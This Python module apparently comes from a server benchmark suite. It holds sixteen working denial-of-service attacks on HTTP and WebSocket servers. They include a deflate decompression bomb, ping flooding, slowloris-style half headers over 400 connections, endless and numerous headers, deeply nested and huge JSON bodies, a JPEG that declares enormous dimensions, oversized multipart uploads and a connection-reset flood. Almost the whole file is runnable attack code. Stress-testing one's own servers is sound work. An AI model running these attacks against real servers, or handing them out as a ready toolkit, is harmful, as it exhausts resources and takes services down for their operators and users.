"""Attacks that make a server do much for little: each sends one volley, says how many bytes that took, and holds on.

Every function takes the target, the time it may take, and a stack that keeps its sockets until they are let go. Whoever
is cut off by the server has been answered; that ends the volley and is no error.
"""

from __future__ import annotations

import base64
import os
import socket
import time
import zlib
from collections.abc import Callable, Mapping
from contextlib import ExitStack, suppress
from dataclasses import dataclass
from struct import pack

from bench.corpus.message import BINARY, TEXT, frame
from bench.corpus.pictures import sound_jpeg
from bench.servers import Address
from bench.websocket import PING

MIB = 2**20
CONNECTION_BYTES = 7 * 40  # headers of what opens and closes a connection without data
PATIENCE_S = 10.0


@dataclass(frozen=True, slots=True)
class Target:
    """Where one server takes what."""

    address: Address
    socket: str
    json: str
    picture: str
    upload: str


Attack = Callable[[Target, float, ExitStack], int]


def deflate_bomb(target: Target, seconds: float, held: ExitStack) -> int:
    """16 messages of 16 MB of one byte, compressed to a thousandth, whether or not compression was agreed on."""
    deflate = zlib.compressobj(9, zlib.DEFLATED, -15)
    zeros = deflate.compress(bytes(16_000_000)) + deflate.flush(zlib.Z_SYNC_FLUSH)
    line = _upgraded(target, held, b"Sec-WebSocket-Extensions: permessage-deflate\r\n")
    return _push(line, frame(zeros[:-4], BINARY, first=0xC0), 16, seconds)


def ping_flood(target: Target, seconds: float, held: ExitStack) -> int:
    """Pings of 125 bytes from who never reads a pong."""
    line = _upgraded(target, held)
    return _push(line, frame(bytes(125), PING) * 500, None, seconds)


def big_message(target: Target, seconds: float, held: ExitStack) -> int:
    """Eight sockets with a message of 16 MiB each, all but its last byte."""
    message = frame(bytes(16 * MIB - 1), BINARY, form=8, length=16 * MIB)
    return sum(_push(_upgraded(target, held), message, 1, seconds / 8) for _ in range(8))


def fragments(target: Target, seconds: float, held: ExitStack) -> int:
    """One message of a byte a frame that never ends."""
    line = _upgraded(target, held)
    sent = _push(line, frame(b"a", TEXT, first=0), 1, 1.0)
    return sent + _push(line, frame(b"a", 0, first=0) * 2_000, 100, seconds)


def empty_fragments(target: Target, seconds: float, held: ExitStack) -> int:
    """The same of frames with nothing in them."""
    line = _upgraded(target, held)
    return _push(line, frame(b"", TEXT, first=0), 1, 1.0) + _push(line, frame(b"", 0, first=0) * 2_000, 100, seconds)


def tiny_messages(target: Target, seconds: float, held: ExitStack) -> int:
    """Messages of two bytes as fast as they go."""
    return _push(_upgraded(target, held), frame(b"{}", TEXT) * 2_000, None, seconds)


def slow_headers(target: Target, seconds: float, held: ExitStack) -> int:
    """400 connections that sent half a header, and wait."""
    half = b"GET / HTTP/1.1\r\nHost: a\r\nX: " + b"y" * 1_000
    sent = sum(_push(_plain(target, held), half, 1, 1.0) + CONNECTION_BYTES for _ in range(400))
    time.sleep(seconds)
    return sent


def header_bomb(target: Target, seconds: float, held: ExitStack) -> int:
    """A header that does not end, 64 MB of it."""
    line = _plain(target, held)
    sent = _push(line, b"GET / HTTP/1.1\r\nHost: a\r\nX: ", 1, 1.0)
    return sent + _push(line, b"y" * 64_000, 1_000, seconds)


def many_headers(target: Target, seconds: float, held: ExitStack) -> int:
    """The same of short ones."""
    line = _plain(target, held)
    sent = _push(line, b"GET / HTTP/1.1\r\nHost: a\r\n", 1, 1.0)
    return sent + _push(line, b"a: b\r\n" * 2_000, 1_000, seconds)


def picture_bomb(target: Target, seconds: float, held: ExitStack) -> int:
    """A small JPEG whose header says 12,000 x 12,000."""
    return posted(target, target.picture, b"image/jpeg", resized(12_000, 12_000), seconds)


def picture_at_the_limit(target: Target, seconds: float, held: ExitStack) -> int:
    """The same with 33 megapixels, which the gateway takes by default."""
    return posted(target, target.picture, b"image/jpeg", resized(5_760, 5_760), seconds)


def deep_json(target: Target, seconds: float, held: ExitStack) -> int:
    """A body of 50,000 arrays, one in the other."""
    return posted(target, target.json, b"application/json", b"[" * 50_000 + b"]" * 50_000, seconds)


def wide_json(target: Target, seconds: float, held: ExitStack) -> int:
    """A body of 32 MB of empty objects."""
    return posted(target, target.json, b"application/json", b"[" + b"{}," * 11_000_000 + b"{}]", seconds)


def big_upload(target: Target, seconds: float, held: ExitStack) -> int:
    """A form with a file of 64 MB."""
    head = b'--frame\r\nContent-Disposition: form-data; name="a"; filename="a"\r\nContent-Type: image/jpeg\r\n\r\n'
    body = head + bytes(64 * MIB) + b"\r\n--frame--\r\n"
    return posted(target, target.upload, _FORM, body, seconds)


def many_parts(target: Target, seconds: float, held: ExitStack) -> int:
    """A form of 900 empty parts."""
    part = b'--frame\r\nContent-Disposition: form-data; name="a"\r\n\r\n\r\n'
    return posted(target, target.upload, _FORM, part * 900 + b"--frame--\r\n", seconds)


def connects(target: Target, seconds: float, held: ExitStack) -> int:
    """Connections opened and closed with a reset, as fast as they go."""
    sent, end = 0, time.monotonic() + seconds
    while time.monotonic() < end:
        with suppress(OSError), ExitStack() as one:
            line = _plain(target, one)
            line.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, pack("ii", 1, 0))
        sent += CONNECTION_BYTES
    return sent


_FORM = b"multipart/form-data; boundary=frame"

ATTACKS: Mapping[str, Attack] = {
    attack.__name__: attack
    for attack in (
        deflate_bomb,
        ping_flood,
        big_message,
        fragments,
        empty_fragments,
        tiny_messages,
        slow_headers,
        header_bomb,
        many_headers,
        picture_bomb,
        picture_at_the_limit,
        deep_json,
        wide_json,
        big_upload,
        many_parts,
        connects,
    )
}


def resized(width: int, height: int) -> bytes:
    """A sound JPEG whose start of frame (ITU T.81 B.2.2) says this size."""
    data = bytearray(sound_jpeg())
    at = data.index(b"\xff\xc0") + 5
    data[at : at + 4] = pack(">HH", height, width)
    return bytes(data)


def _plain(target: Target, held: ExitStack) -> socket.socket:
    line = held.enter_context(socket.create_connection(target.address, timeout=PATIENCE_S))
    line.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
    return line


def _upgraded(target: Target, held: ExitStack, more: bytes = b"") -> socket.socket:
    line, (host, port) = _plain(target, held), target.address
    key = base64.b64encode(os.urandom(16))
    line.sendall(
        b"GET %b HTTP/1.1\r\nHost: %b:%d\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n%b"
        b"Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: %b\r\n\r\n"
        % (target.socket.encode(), host.encode(), port, more, key)
    )
    if not line.recv(4096).startswith(b"HTTP/1.1 101 "):
        raise ConnectionError("no socket to attack through")
    return line


def _push(line: socket.socket, data: bytes, times: int | None, seconds: float) -> int:
    """Bytes sent of that: so many times or, without a number, for some seconds; less if the server takes no more."""
    if times is not None:
        seconds = PATIENCE_S
    sent, end, left = 0, time.monotonic() + seconds, times
    line.settimeout(seconds)
    with suppress(OSError):
        while (left is None or left > 0) and time.monotonic() < end:
            view = memoryview(data)
            while view and time.monotonic() < end:
                gone = line.send(view)
                sent += gone
                view = view[gone:]
            left = None if left is None else left - 1
    return sent


def posted(target: Target, path: str, kind: bytes, body: bytes, seconds: float) -> int:
    """Bytes of a request whose answer was waited for."""
    head = b"POST %b HTTP/1.1\r\nHost: %b:%d\r\nConnection: close\r\nContent-Type: %b\r\nContent-Length: %d\r\n\r\n"
    with socket.create_connection(target.address, timeout=PATIENCE_S) as line, suppress(OSError):
        host, port = target.address
        start = head % (path.encode(), host.encode(), port, kind, len(body))
        sent = _push(line, start + body, 1, seconds)
        while line.recv(2**16):
            pass
    return sent
